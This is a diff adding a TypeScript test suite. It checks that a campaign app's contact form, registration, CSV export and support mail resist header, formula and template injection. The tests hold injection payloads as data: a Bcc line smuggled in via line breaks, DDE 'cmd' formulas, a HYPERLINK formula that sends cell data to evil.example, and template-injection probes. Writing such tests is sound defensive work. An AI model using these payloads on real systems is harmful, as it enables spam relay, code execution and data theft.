@@ -1,0 +1,154 @@
+import type { Campaign } from "@adwright/contracts/campaign";
+import type { Stage } from "@adwright/local/stage";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+
+import { until } from "../../support/api.ts";
+import { draftCampaign, importBrands } from "../../support/drafts.ts";
+import { awaitMail, mailedTo } from "../../support/outbox.ts";
+import { makePerson, type Person } from "../../support/person.ts";
+import { startBareStage } from "../../support/stage.ts";
+import { readCsv } from "../read-csv.ts";
+
+const SUPPORT = "support@adwright.example";
+const TIMEOUT_MS = 60_000;
+
+let stage: Stage;
+let person: Person;
+let campaign: Campaign;
+
+beforeAll(async () => {
+  stage = await startBareStage();
+  person = await makePerson(stage.origin);
+  const [brand] = await importBrands(person, 1);
+  campaign = await draftCampaign(person, brand?.id ?? 0, "Trail shoes");
+}, TIMEOUT_MS);
+afterAll(() => stage.close());
+
+const lineBreaks = {
+  CRLF: "\r\n",
+  LF: "\n",
+  CR: "\r",
+  NEL: "\u0085",
+  "line separator": "\u2028",
+  "paragraph separator": "\u2029",
+  "vertical tab": "\u000b",
+  NUL: "\u0000",
+};
+
+const message = {
+  name: "Ada",
+  email: "ada@northwind.example",
+  subject: "Help",
+  category: "General",
+  message: "Ads aren't running.",
+};
+
+describe("a mail header", () => {
+  test.each(
+    Object.entries(lineBreaks).flatMap(([name, mark]) =>
+      (["name", "subject", "email"] as const).map((field) => [field, name, mark] as const),
+    ),
+  )("is not begun in the %s by %s", async (field, _, mark) => {
+    const body = { ...message, [field]: `${message[field]}${mark}Bcc: everybody@evil.example` };
+    const { status, body: answer } = await person.api("POST", "/api/contact/support", body);
+    expect(status).toBe(422);
+    expect(answer["validationErrors"]).toMatchObject([{ field }]);
+  });
+
+  test.each(Object.entries(lineBreaks))(
+    "is not begun in a person's own name by %s",
+    async (_, mark) => {
+      const fullName = `Ada${mark}Bcc: everybody@evil.example`;
+      const email = `ada-${encodeURIComponent(mark).toLowerCase().replaceAll("%", "")}@mail.example`;
+      const response = await fetch(new URL("/api/auth/register", stage.origin), {
+        method: "POST",
+        headers: { "content-type": "application/json" },
+        body: JSON.stringify({ username: "ada", email, fullName, password: "seven green bottles" }),
+      });
+      expect([200, 422]).toContain(response.status);
+      const to = response.status === 200 ? await awaitMail(stage, email) : [];
+      const headers = to.flatMap(({ to: address, replyTo, subject, headers: others }) => [
+        address,
+        replyTo ?? "",
+        subject,
+        ...Object.values(others ?? {}),
+      ]);
+      // oxlint-disable-next-line no-control-regex -- what must not be there
+      expect(headers.filter((one) => /[\u0000-\u001f\u0085\u2028\u2029]/.test(one))).toEqual([]);
+      expect(stage.standIns.mail.outbox().map((one) => one.to)).not.toContain(
+        "everybody@evil.example",
+      );
+    },
+  );
+});
+
+const formulas = [
+  '=HYPERLINK("https://evil.example?"&A1,"Open")',
+  "=cmd|' /C calc'!A0",
+  "+1+cmd|' /C calc'!A0",
+  "-1+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+  ' "=1+1',
+  "＝1+1",
+  "shoes;=1+1",
+  "shoes\n=1+1",
+];
+
+/** As a spreadsheet reads a cell: what begins so is carried out. */
+const FORMULA = /^[\s"]*[=+\-@＝＋－＠]/;
+
+test.each(formulas)(
+  "%j is no formula in the file of a campaign",
+  { timeout: TIMEOUT_MS },
+  async (text) => {
+    const [group] = campaign.adGroups;
+    const body = {
+      name: text.trim(),
+      negativeKeywords: [text.trim()],
+      adGroups: [{ ...group, ad_group_name: text, headlines: [text, "Trail shoes"], path1: text }],
+    };
+    const path = `/api/campaigns/${campaign.id}`;
+    expect((await person.api("PUT", path, body)).status).toBe(200);
+    const exported = await fetch(new URL(`${path}/export`, stage.origin), {
+      headers: { authorization: `Bearer ${person.accessToken}` },
+    });
+    expect(exported.status).toBe(200);
+    const cells = readCsv(await exported.text()).flatMap((row) => Object.values(row));
+    expect(
+      cells.some((cell) => cell.includes("1+1") || cell.includes("evil") || cell.includes("calc")),
+    ).toBe(true);
+    expect(cells.filter((cell) => FORMULA.test(cell) && !/^-?[\d.]+$/.test(cell))).toEqual([]);
+  },
+);
+
+const templates = [
+  "{{7*191}}",
+  "${7*191}",
+  "#{7*191}",
+  "<%= 7*191 %>",
+  "{% print(7*191) %}",
+  "[[${7*191}]]",
+  "*{7*191}",
+  "%{7*191}",
+  "{{constructor.constructor('return 7*191')()}}",
+];
+
+test.each(templates)("%s is mailed and answered as it is written", async (text) => {
+  const other = await makePerson(stage.origin, { fullName: text });
+  const sent = { ...message, name: text, subject: text, message: text };
+  const asked = await other.api<{ ticketId: string }>("POST", "/api/contact/support", sent);
+  expect(asked.status).toBe(200);
+  const { ticketId } = asked.body;
+  const mail = await until(
+    () =>
+      Promise.resolve(mailedTo(stage, SUPPORT).find(({ subject }) => subject.includes(ticketId))),
+    (one) => one !== undefined,
+  );
+  expect(mail?.subject).toContain(text);
+  expect(mail?.text).toContain(text);
+  expect(`${mail?.subject} ${mail?.text} ${mail?.html}`).not.toContain("1337");
+  const me = await other.api("GET", "/api/auth/me");
+  expect(me.body["fullName"]).toBe(text);
+});
